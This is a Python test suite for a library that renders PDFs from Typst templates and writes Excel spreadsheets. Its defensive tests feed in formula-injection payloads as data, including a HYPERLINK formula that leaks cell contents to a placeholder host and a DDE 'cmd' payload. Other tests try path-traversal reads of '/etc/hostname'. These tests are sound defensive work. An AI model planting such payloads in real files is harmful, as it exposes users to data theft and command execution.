"""Documents are read back: words, language, tags, figures; and what must not happen, does not."""

from __future__ import annotations

import csv
import io
import socket
import zipfile
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from timshel.kernel.documents import Column, ColumnKind, DocumentError, Sheet, pdf, spreadsheet

AT = datetime(2026, 3, 2, 10, 0, tzinfo=UTC)
LETTER = Path(__file__).parent / "documents" / "letter.typ"
LONDON = "Europe/London"


def letter(**changes: Any) -> bytes:
    data = {
        "title": "Résumé de l’été",
        "language": "fr",
        "organisation": "Aldermoor Institute",
        "heading": "Où en sommes-nous ?",
        "text": "Cœur, naïveté, « œuvre » : 12,5 € — déjà payés.",
        "figures": [{"label": "Dans les temps", "value": "95 %", "note": "objectif : 90 %"}],
        "headers": ["Mesure", "Valeur"],
        "rows": [["Délai médian", "3 h 10"], ["Ouverts", "12"]],
        **changes,
    }
    return pdf(LETTER, data, at=AT)


def read(content: bytes) -> PdfReader:
    return PdfReader(io.BytesIO(content))


def words(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in read(content).pages)


class TestPdf:
    def test_it_says_what_it_was_given(self) -> None:
        text = words(letter())
        assert "Où en sommes-nous ?" in text
        assert "Cœur, naïveté, « œuvre » : 12,5 € — déjà payés." in text
        for expected in ("Dans les temps", "95 %", "Délai médian", "3 h 10", "1 / 1"):
            assert expected in text

    def test_it_can_be_read_aloud(self) -> None:
        reader = read(letter())
        root: Any = reader.trailer["/Root"]
        assert root["/Lang"] == "fr"
        assert root["/MarkInfo"]["/Marked"]
        assert root["/ViewerPreferences"]["/DisplayDocTitle"]
        metadata = root["/Metadata"].get_data().decode()
        assert "pdfuaid:part" in metadata
        assert reader.metadata is not None
        assert reader.metadata.title == "Résumé de l’été"

    def test_tables_are_tagged_with_their_heads(self) -> None:
        kinds = set()

        def walk(element: Any) -> None:
            element = element.get_object()
            if isinstance(element, list):
                for each in element:
                    walk(each)
            elif isinstance(element, dict) and "/S" in element:
                kinds.add(element["/S"])
                if "/K" in element:
                    walk(element["/K"])

        root: Any = read(letter()).trailer["/Root"]
        walk(root["/StructTreeRoot"]["/K"])
        assert kinds >= {"/Title", "/H1", "/P", "/Table", "/TH", "/TD"}

    def test_the_same_gives_the_same_bytes(self) -> None:
        assert letter() == letter()
        assert letter() != letter(text="Autre.")

    def test_its_date_is_the_moment_given(self) -> None:
        metadata = read(letter()).metadata
        assert metadata is not None
        assert metadata.creation_date == AT

    def test_text_of_people_is_never_markup(self) -> None:
        nasty = '#read("letter.typ") *bold* $x^2$ = Heading <label> @ref \\ // #import "@preview/x"'
        assert nasty in words(letter(text=nasty)).replace("\n", " ")

    def test_a_long_table_repeats_its_head(self) -> None:
        reader = read(letter(rows=[[f"Row {number}", "1"] for number in range(120)]))
        assert len(reader.pages) > 2
        assert all("Mesure" in page.extract_text() for page in reader.pages)
        assert "3 / " in reader.pages[2].extract_text()

    @pytest.mark.parametrize("text", ["名前 漢字", "😀 fine", "\U000e0001 odd"])
    def test_a_character_that_no_font_has_is_no_reason_to_fail(self, text: str) -> None:
        content = letter(text=f"Before {text} after")
        assert "Before" in words(content)
        root: Any = read(content).trailer["/Root"]
        assert root["/MarkInfo"]["/Marked"]

    def test_data_that_do_not_fit_are_a_fault_that_says_where(self) -> None:
        with pytest.raises(DocumentError, match=r"letter\.typ.*does not contain key"):
            pdf(LETTER, {"title": "T", "language": "en"}, at=AT)
        with pytest.raises(ValueError, match="JSON"):
            letter(text=float("nan"))
        with pytest.raises(ValueError, match="zone"):
            pdf(LETTER, {}, at=AT.replace(tzinfo=None))

    @pytest.mark.parametrize("path", ["../secret.txt", "/../secret.txt", "/etc/hostname"])
    def test_a_template_reads_nothing_outside_its_folder(self, path: str, tmp_path: Path) -> None:
        (tmp_path / "secret.txt").write_text("secret")
        template = tmp_path / "templates" / "a.typ"
        template.parent.mkdir()
        template.write_text(f'#read("{path}")')
        with pytest.raises(DocumentError):
            pdf(template, {}, at=AT)

    def test_a_template_fetches_nothing(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def refuse(*_: Any, **__: Any) -> None:
            raise AssertionError("asked the network")

        monkeypatch.setattr(socket, "getaddrinfo", refuse)
        template = tmp_path / "a.typ"
        template.write_text('#import "@preview/cetz:0.3.0"')
        with pytest.raises(DocumentError, match="package from the network"):
            pdf(template, {}, at=AT)


def book(*columns: Column, rows: list[tuple[Any, ...]], zone: Any = LONDON, name: str = "S") -> Any:
    return load_workbook(io.BytesIO(spreadsheet([Sheet(name, columns, rows)], zone=zone)))


def values(sheet: Any) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def one(value: Any, kind: ColumnKind, zone: Any = LONDON) -> Any:
    return book(Column("C", kind), rows=[(value,)], zone=zone)["S"]["A2"]


class TestSpreadsheet:
    def test_what_was_written_is_read(self) -> None:
        columns = [Column("Service"), Column("Cases", ColumnKind.NUMBER)]
        read_back = book(*columns, rows=[("Élévateur", 3), ("Œuvre", None)])["S"]
        assert values(read_back) == [["Service", "Cases"], ["Élévateur", 3], ["Œuvre", None]]

    def test_the_head_stays_and_filters(self) -> None:
        sheet = book(Column("A"), Column("B"), rows=[("x", "y")] * 5)["S"]
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == "A1:B6"
        assert sheet["A1"].font.bold
        assert not sheet["A2"].font.bold

    def test_a_sheet_without_rows_is_still_one(self) -> None:
        sheet = book(Column("A"), rows=[])["S"]
        assert values(sheet) == [["A"]]
        assert sheet.auto_filter.ref == "A1:A1"

    @pytest.mark.parametrize(
        "text",
        [
            '=HYPERLINK("http://x.example/?"&A1,"Click")',
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "=cmd|' /C calc'!A0",
            "#N/A",
            "#REF!",
            "0042",
            "TRUE",
        ],
    )
    def test_text_is_never_a_formula(self, text: str) -> None:
        for cell in (one(text, ColumnKind.TEXT), book(Column(text), rows=[])["S"]["A1"]):
            assert cell.data_type in {"s", "inlineStr"}
            assert cell.value == text
            assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t"))

    def test_no_formula_is_in_the_file_at_all(self) -> None:
        content = spreadsheet([Sheet("=1", [Column("=1")], [["=1"], ["\r=1"]])], zone="UTC")
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "<f " not in sheet
        assert 't="str"' not in sheet

    def test_characters_that_a_file_cannot_hold_are_left_out(self) -> None:
        assert one("a\x00b\x0bc\ud800d\x1be", ColumnKind.TEXT).value == "abcde"

    def test_text_that_looks_like_an_escape_is_kept(self) -> None:
        assert one("_x0041_", ColumnKind.TEXT).value in {"_x0041_", "_x005F_x0041_"}

    def test_the_longest_text(self) -> None:
        assert len(one("x" * 32_767, ColumnKind.TEXT).value) == 32_767
        cut = one("x" * 40_000, ColumnKind.TEXT).value
        assert (len(cut), cut[-1]) == (32_767, "…")

    @pytest.mark.parametrize(
        ("value", "expected", "shown"),
        [
            (1234, 1234, "#,##0"),
            (12.0, 12, "#,##0"),
            (12.25, 12.25, "#,##0.00"),
            (Decimal("0.1"), 0.1, "#,##0.00"),
            (-3, -3, "#,##0"),
        ],
    )
    def test_numbers(self, value: Any, expected: Any, shown: str) -> None:
        cell = one(value, ColumnKind.NUMBER)
        assert (cell.value, cell.number_format, cell.data_type) == (expected, shown, "n")

    def test_what_is_no_number_is_an_empty_cell(self) -> None:
        for value in (None, float("nan"), float("inf")):
            assert one(value, ColumnKind.NUMBER).value is None

    def test_a_share(self) -> None:
        cell = one(0.953, ColumnKind.PERCENT)
        assert (cell.value, cell.number_format) == (0.953, "0.0%")

    @pytest.mark.parametrize(
        ("span", "expected"),
        [
            (timedelta(hours=30, minutes=5, seconds=7), timedelta(hours=30, minutes=5, seconds=7)),
            (timedelta(days=40), timedelta(days=40)),
            (timedelta(seconds=1.6), timedelta(seconds=2)),
        ],
    )
    def test_durations_count_on_past_a_day(self, span: timedelta, expected: timedelta) -> None:
        cell = one(span, ColumnKind.DURATION)
        assert cell.number_format == "[h]:mm:ss"
        assert cell.value == expected

    def test_a_negative_duration_is_text(self) -> None:
        cell = one(-timedelta(hours=26, minutes=3), ColumnKind.DURATION)
        assert (cell.value, cell.data_type) == ("-26:03:00", "s")

    def test_moments_stand_in_the_reader_s_zone(self) -> None:
        summer = datetime(2026, 7, 6, 23, 30, 15, 999, tzinfo=UTC)
        cell = one(summer, ColumnKind.MOMENT)
        assert cell.value == datetime(2026, 7, 7, 0, 30, 15)  # noqa: DTZ001 - Excel knows no zone
        assert cell.number_format == "yyyy-mm-dd hh:mm"
        toronto = one(summer, ColumnKind.MOMENT, "America/Toronto").value
        assert toronto == datetime(2026, 7, 6, 19, 30, 15)  # noqa: DTZ001

    def test_the_day_of_a_moment_is_the_reader_s(self) -> None:
        late = datetime(2026, 7, 6, 23, 30, tzinfo=UTC)
        for zone, day in ((LONDON, 7), ("UTC", 6)):
            cell = one(late, ColumnKind.DATE, zone)
            assert cell.value.date() == date(2026, 7, day)
            assert cell.number_format == "yyyy-mm-dd"
        assert one(date(2026, 7, 6), ColumnKind.DATE).value.date() == date(2026, 7, 6)

    def test_what_excel_has_no_day_for_is_text(self) -> None:
        assert one(date(1899, 5, 1), ColumnKind.DATE).value == "1899-05-01"

    @pytest.mark.parametrize(
        ("value", "kind", "fault"),
        [
            ("12", ColumnKind.NUMBER, TypeError),
            (True, ColumnKind.NUMBER, TypeError),
            (3600, ColumnKind.DURATION, TypeError),
            ("2026-01-01", ColumnKind.DATE, TypeError),
            (datetime(2026, 1, 1), ColumnKind.MOMENT, ValueError),  # noqa: DTZ001
            (date(2026, 1, 1), ColumnKind.MOMENT, TypeError),
        ],
    )
    def test_a_value_that_does_not_fit_its_column(
        self, value: Any, kind: ColumnKind, fault: type[Exception]
    ) -> None:
        with pytest.raises(fault):
            one(value, kind)

    def test_a_row_of_another_length_is_refused(self) -> None:
        with pytest.raises(ValueError, match="row 2 has 1 values, not 2"):
            book(Column("A"), Column("B"), rows=[("x", "y"), ("only",)])

    def test_names_of_sheets_are_mended_and_told_apart(self) -> None:
        names = ["Cases: [open]/closed", "cases  open  closed", "x" * 40, "x" * 40, "", "History"]
        made = spreadsheet([Sheet(name, [Column("A")], []) for name in names], zone="UTC")
        sheets = load_workbook(io.BytesIO(made)).sheetnames
        assert len(sheets) == len({name.casefold() for name in sheets}) == 6
        assert all(0 < len(name) <= 31 for name in sheets)
        assert sheets[-1] == "History 2"
        assert sheets[3] == "x" * 29 + " 2"

    def test_rows_may_come_one_by_one(self) -> None:
        rows = ((number, f"Row {number}") for number in range(5_000))
        columns = [Column("N", ColumnKind.NUMBER), Column("T")]
        made = spreadsheet([Sheet("S", columns, rows)], zone="UTC")
        sheet = load_workbook(io.BytesIO(made), read_only=True)["S"]
        read_back = list(sheet.iter_rows(values_only=True))
        assert len(read_back) == 5_001
        assert read_back[-1] == (4_999, "Row 4999")

    def test_widths_follow_the_words(self) -> None:
        columns = [Column("A"), Column("B"), Column("Average", ColumnKind.DURATION)]
        sheet = book(*columns, rows=[("x" * 30, "x" * 400, None)])["S"]
        widths = [sheet.column_dimensions[letter].width for letter in "ABC"]
        assert widths == [30, 60, 12]

    def test_nothing_to_write_is_a_fault(self) -> None:
        with pytest.raises(ValueError, match="needs a sheet"):
            spreadsheet([], zone="UTC")


def test_spreadsheets_can_go_on_as_csv_and_keep_their_text() -> None:
    """What a reader saves as CSV begins as it began here; nothing was put before it."""
    sheet = book(Column("A"), rows=[("-5 degrees outside",)])["S"]
    out = io.StringIO()
    csv.writer(out).writerows(values(sheet))
    assert out.getvalue().splitlines() == ["A", "-5 degrees outside"]
